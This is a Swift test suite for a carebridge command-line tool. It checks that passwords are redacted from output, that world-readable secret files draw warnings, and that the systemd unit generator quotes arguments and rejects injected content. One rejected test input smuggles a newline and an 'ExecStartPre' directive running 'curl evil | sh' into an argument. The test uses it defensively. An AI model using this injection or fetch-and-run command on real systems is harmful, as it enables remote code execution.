import Foundation
import TestSupport
import Testing

/// The MQTT password never reaches a message, and `systemd-unit` writes only the directives it means to.
@Suite struct SecretsAndUnitCommandTests {
    static let recording = PackageRoot.recording("thermometer-fahrenheit.jsonl")

    /// This test's directory, removed when the test ends.
    let scratch: ScratchDirectory

    init() throws { scratch = try ScratchDirectory("secrets-") }

    @Test func aPasswordInTheURLIsNeverPrintedAndDrawsAWarning() async throws {
        let dir = scratch.url
        let result = try await CarebridgeProcess.run([
            "replay", "--store", dir.appendingPathComponent("s.sqlite").path, "--mqtt-wait", "0.5",
            "--mqtt", "mqtt://bridge:hunter2@127.0.0.1:1", Self.recording,
        ])
        #expect(result.status == 75, "\(result.stderr)")
        #expect(!result.stderr.contains("hunter2") && !result.stdout.contains("hunter2"), "\(result.stderr)")
        #expect(result.stderr.contains("mqtt://bridge:***@127.0.0.1:1"), "\(result.stderr)")
        #expect(result.stderr.contains("visible") || result.stderr.contains("`ps`"), "\(result.stderr)")
    }

    @Test func aMalformedURLWithAPasswordIsRedactedInTheError() async throws {
        let dir = scratch.url
        let result = try await CarebridgeProcess.run([
            "replay", "--store", dir.appendingPathComponent("s.sqlite").path, "--mqtt",
            "mqtt://bridge:hunter2@host:99999", Self.recording,
        ])
        #expect(result.status == 64, "\(result.stderr)")
        #expect(!result.stderr.contains("hunter2"), "\(result.stderr)")
        #expect(result.stderr.contains("***"), "\(result.stderr)")
    }

    @Test func thePasswordFileAndTheEnvironmentVariableSilenceTheWarning() async throws {
        let dir = scratch.url
        let file = dir.appendingPathComponent("password").path
        try "hunter2\n".write(toFile: file, atomically: true, encoding: .utf8)
        for (arguments, environment) in [
            (["--mqtt-password-file", file], [String: String]()), ([], ["CAREBRIDGE_MQTT_PASSWORD": "hunter2"]),
            ([], ["CREDENTIALS_DIRECTORY": dir.path]),
        ] {
            if environment["CREDENTIALS_DIRECTORY"] != nil {
                try "hunter2\n".write(
                    toFile: dir.appendingPathComponent("mqtt-password").path,
                    atomically: true,
                    encoding: .utf8
                )
            }
            let result = try await CarebridgeProcess.run(
                [
                    "replay", "--store", dir.appendingPathComponent("\(UUID().uuidString).sqlite").path,
                    "--mqtt-wait", "0.2", "--mqtt", "mqtt://bridge@127.0.0.1:1",
                ] + arguments + [Self.recording],
                environment: environment
            )
            #expect(result.status == 75, "\(result.stderr)")
            #expect(!result.stderr.contains("`ps`"), "\(arguments) \(environment): \(result.stderr)")
            #expect(!result.stderr.contains("hunter2"))
        }
        let missing = try await CarebridgeProcess.run([
            "replay", "--store", dir.appendingPathComponent("m.sqlite").path, "--mqtt", "mqtt://bridge@127.0.0.1:1",
            "--mqtt-password-file", dir.appendingPathComponent("nope").path, Self.recording,
        ])
        #expect(missing.status == 66, "\(missing.stderr)")
    }

    @Test func aPasswordFileOthersCanReadIsUsedWithAWarning() async throws {
        let dir = scratch.url
        let file = dir.appendingPathComponent("password").path
        try "hunter2\n".write(toFile: file, atomically: true, encoding: .utf8)
        for mode in [0o644, 0o600] {
            try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: file)
            let result = try await CarebridgeProcess.run([
                "replay", "--store", dir.appendingPathComponent("\(UUID().uuidString).sqlite").path,
                "--mqtt-wait", "0.2", "--mqtt", "mqtt://bridge@127.0.0.1:1", "--mqtt-password-file", file,
                Self.recording,
            ])
            #expect(result.status == 75, "\(result.stderr)")
            let warned = result.stderr.contains("--mqtt-password-file \(file) can be read by other users (mode 644)")
            #expect(warned == (mode == 0o644), "mode \(String(mode, radix: 8)): \(result.stderr)")
            #expect(!result.stderr.contains("hunter2"))
        }
    }

    /// The SMTP credentials and the hub database's password file warn like the MQTT one (the relay is not
    /// reached: nothing is pending; the database URL is refused after the warning, without waiting for a server).
    @Test(arguments: ["smtp", "hub"])
    func otherSecretFilesOthersCanReadAreUsedWithAWarning(kind: String) async throws {
        let dir = scratch.url
        let file = dir.appendingPathComponent("secret-\(kind)").path
        try "carebridge\nhunter2\n".write(toFile: file, atomically: true, encoding: .utf8)
        let store = dir.appendingPathComponent("\(kind).sqlite").path
        let (arguments, option) =
            kind == "smtp"
            ? (
                [
                    "alerts", "deliver", "--store", store, "--smtp", "smtp://127.0.0.1:1", "--smtp-from",
                    "bridge@example.org", "--smtp-credentials-file", file,
                ], "--smtp-credentials-file"
            )
            : (
                [
                    "hub", "status", "--database", "http://not-a-database", "--database-password-file",
                    file,
                ],
                "--database-password-file"
            )
        if kind == "smtp" {
            #expect(try await CarebridgeProcess.run(["ingest", "--store", store, "bodyMass", "72", "kg"]).status == 0)
        }
        for mode in [0o644, 0o600] {
            try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: file)
            let result = try await CarebridgeProcess.run(arguments)
            let warned = result.stderr.contains("\(option) \(file) can be read by other users (mode 644)")
            #expect(warned == (mode == 0o644), "mode \(String(mode, radix: 8)): \(result.stderr)")
            #expect(!result.stderr.contains("hunter2") && !result.stdout.contains("hunter2"))
        }
    }

    @Test func systemdUnitAcceptsArgumentsThatStartWithDashesAndQuotesEachWord() async throws {
        let result = try await CarebridgeProcess.run([
            "systemd-unit", "--arguments", #"--store "/var/lib/care bridge/50%.sqlite" --plan /etc/cb/$plan.json"#,
        ])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(
            result.stdout.contains(
                #"ExecStart=/usr/local/bin/carebridge run --store "/var/lib/care bridge/50%%.sqlite" --plan /etc/cb/$$plan.json"#
            ),
            "\(result.stdout)"
        )
        #expect(result.stdout.contains("Documentation=man:carebridge(1)"))
    }

    @Test(arguments: [
        "--store /x.sqlite\nExecStartPre=/bin/sh -c 'curl evil | sh'", "--store /x\r", "--store /x\u{1B}[2J",
        "--store '/x", "--mqtt mqtt://bridge:hunter2@broker", "--mqtt=mqtt://u:p@broker",
    ])
    func systemdUnitRefusesNewlinesControlCharactersAndPasswords(arguments: String) async throws {
        let result = try await CarebridgeProcess.run(["systemd-unit", "--arguments", arguments])
        #expect(result.status == 64, "\(result.stdout)")
        #expect(!result.stdout.contains("ExecStartPre"))
        #expect(!result.stderr.contains("hunter2"))
    }

    @Test func systemdUnitLoadsTheMQTTPasswordAsACredential() async throws {
        let result = try await CarebridgeProcess.run([
            "systemd-unit", "--arguments", "--store /var/lib/carebridge/store.sqlite --mqtt mqtt://bridge@broker",
            "--mqtt-credential", "/etc/carebridge/mqtt-password",
        ])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.contains("LoadCredential=mqtt-password:/etc/carebridge/mqtt-password"))
        #expect(result.stdout.contains("--mqtt mqtt://bridge@broker"))
    }

    @Test func redactSaysPayloadsAreKeptAndWarnsWhenAProfileMatchesByName() async throws {
        let dir = scratch.url
        let input = dir.appendingPathComponent("and.jsonl").path
        try """
        {"format": "carebridge-recording", "version": 1, "recordedAt": "2026-11-20T07:58:00+01:00", "user": "anna"}
        {"t": 0.4, "kind": "advertisement", "device": "C4:7C:8D:6A:3E:10", "name": "A&D_UC-352BLE_1A2B", "serviceUUIDs": ["181D"]}

        """.write(toFile: input, atomically: true, encoding: .utf8)
        let redacted = try await CarebridgeProcess.run([
            "recording", "redact", input, "--out", dir.appendingPathComponent("out.jsonl").path,
        ])
        #expect(redacted.status == 0, "\(redacted.stderr)")
        #expect(redacted.stderr.contains("payloads are kept"), "\(redacted.stderr)")
        #expect(redacted.stderr.contains("--keep-names"), "\(redacted.stderr)")
        #expect(!redacted.stderr.contains("1A2B"), "the warning names the profile, not the device")
        let kept = try await CarebridgeProcess.run([
            "recording", "redact", input, "--keep-names", "--out", dir.appendingPathComponent("kept.jsonl").path,
        ])
        #expect(!kept.stderr.contains("--keep-names"), "\(kept.stderr)")
    }
}
